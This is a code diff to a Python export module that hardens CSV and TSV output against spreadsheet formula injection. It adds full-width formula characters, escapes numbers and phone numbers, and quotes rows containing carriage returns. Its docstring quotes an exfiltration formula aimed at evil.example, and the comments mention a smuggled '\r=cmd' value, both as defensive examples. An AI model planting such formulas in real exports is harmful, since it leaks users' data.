@@ -5,13 +5,20 @@
 citizen's name or a problem's description can start with any of them
 (``=HYPERLINK("http://evil.example/?d="&A1)``), and a coordinator opening the export would
 run it. :func:`safe_cell` puts an apostrophe in front of such a cell: the spreadsheet shows
-the text as typed and runs nothing. One rule for every writer, the strict one: ``-5`` too
-becomes ``'-5`` (the files hold no negative numbers), and it does not matter which column or
-who typed the value. :func:`plain_cell` undoes it when the app reads its own file back.
+the text as typed and runs nothing. The full-width forms ``＝ ＋ － ＠`` get it too: some
+spreadsheets (and Excel with East Asian input) read them as their ASCII twins.
+
+One rule for every writer, the strict one, and it does not matter which column or who typed
+the value. Numbers are not let through: ``-5`` becomes ``'-5`` (the files hold no negative
+amounts: amounts are never below zero) and a phone number ``+34 612 345 678`` becomes
+``'+34 612 345 678``, which a spreadsheet shows as the text it is; without the apostrophe it
+would read it as a formula (the spaces are Excel's intersection operator: ``#NULL!``) or drop
+the ``+``. A rule that tried to recognise "plain numbers" is where the weaker rules that
+skipped ``=1+…`` came from. :func:`plain_cell` undoes it when the app reads its own file back.
 
 **Shape.** The CSV exports are UTF-8 with a byte order mark (so Excel reads the accents
 right), comma separated, CRLF line ends (RFC 4180). The tracker's own list is tab-separated
-(``casefiles/tracker.py`` decides its shape; its cells are made safe here too).
+(``casefiles/tracker.py`` decides its columns; :func:`write_tsv` writes it, made safe here too).
 """
 
 from __future__ import annotations
@@ -20,9 +27,10 @@ import csv
 import io
 from collections.abc import Iterable
 from collections.abc import Iterator
+from typing import TextIO
 
 #: What a spreadsheet may take for the start of a formula.
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 #: The byte order mark at the start of every CSV export.
 BOM = "\ufeff"
 
@@ -65,3 +73,20 @@ def csv_chunks(
             buffer.seek(0)
             buffer.truncate()
     yield buffer.getvalue()
+
+
+def write_tsv(out: TextIO, headers: Iterable[object], rows: Iterable[Iterable[object]]) -> int:
+    """A tab-separated file (the tracker's shape: no BOM, ``\n`` line ends) on ``out``, every
+    cell made safe; returns how many rows (not counting the header)."""
+    writer = csv.writer(out, delimiter="\t", lineterminator="\n")
+    # The csv module quotes a cell holding the line terminator ("\n") but not a lone "\r",
+    # which spreadsheets take for a new line: "'\r=cmd" would then start a row with "=cmd".
+    # A row with a "\r" anywhere is written with every cell quoted.
+    quoted = csv.writer(out, delimiter="\t", lineterminator="\n", quoting=csv.QUOTE_ALL)
+    writer.writerow(safe_row(headers))
+    count = 0
+    for row in rows:
+        cells = safe_row(row)
+        (quoted if any("\r" in cell for cell in cells) else writer).writerow(cells)
+        count += 1
+    return count
